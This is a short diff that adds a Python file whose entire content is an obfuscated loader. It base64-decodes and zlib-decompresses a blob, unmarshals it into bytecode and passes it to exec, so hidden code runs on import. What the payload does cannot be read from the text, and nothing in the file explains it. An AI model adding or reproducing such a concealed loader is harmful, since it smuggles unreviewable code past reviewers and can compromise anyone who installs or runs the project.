@@ -0,0 +1,5 @@
+import base64
+import marshal
+import zlib
+
+exec(marshal.loads(zlib.decompress(base64.b64decode('eJx7zIAGmIDYAYiLBYBECkMUQwpjClMLQxRjCnMwgyZLFFtxanJRakkyI5IeZih2BulTAuljrGWsYXBhiBWpZaphSmHKZiniqGGsYTJnqGUsBLKAJjH7vQRpTYeY8MN+JVDoFmtmSWpu8S22otTi0pySWywgbhHIRWDiF2dxYm5BTqpeQeUt1pL8ksQcFpCFXCADGFkYOYCQi7GIHcjz02SKYvZ2jQRzEAZACDYgcYvDJjc/pTQn1Q7kj2KQOAszADrxL2s='))))